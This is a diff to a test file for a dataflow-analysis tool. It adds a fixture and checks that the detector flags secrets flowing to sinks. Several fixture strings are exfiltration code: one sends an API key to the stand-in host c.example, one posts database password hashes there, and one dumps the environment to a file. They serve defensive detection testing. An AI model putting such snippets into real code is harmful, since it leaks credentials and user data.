@@ -318,6 +318,8 @@ describe('dataflow analysis', () => {
       assert.deepEqual(summary(await flowsOf('bash', channels)), ['secret: git or package-registry credentials -> mail', 'secret: AWS credentials -> socket', 'secret: the SSH private key -> socket']);
       const optionsPath = "const https = require('https');\nhttps.request({ hostname: 'c.example', path: '/c?k=' + encodeURIComponent(process.env.OPENAI_API_KEY) }).end();\nhttps.request({ hostname: 'api.openai.com', path: '/v1/models?key=' + process.env.OPENAI_API_KEY }).end();\n";
       assert.deepEqual(summary(await flowsOf('javascript', optionsPath)), ['secret: the secret variable OPENAI_API_KEY -> network']);
+      const rows = "import psycopg2, requests\ncur = psycopg2.connect(dsn).cursor()\ncur.execute('SELECT email, password_hash FROM users')\nrequests.post('https://c.example/r', json=cur.fetchall())\ncur.execute('SELECT id, email FROM customers')\nrequests.post('https://crm.c.example/sync', json=cur.fetchall())\n";
+      assert.deepEqual(summary(await flowsOf('python', rows)), ['secret: a password-hash or token column selected from a database -> network']);
       const dumped = "import os, json\njson.dump(dict(os.environ), open('/tmp/env.json', 'w'))\n";
       assert.deepEqual(summary(await flowsOf('python', dumped)), ['secret: the whole environment -> shared-file']);
     });
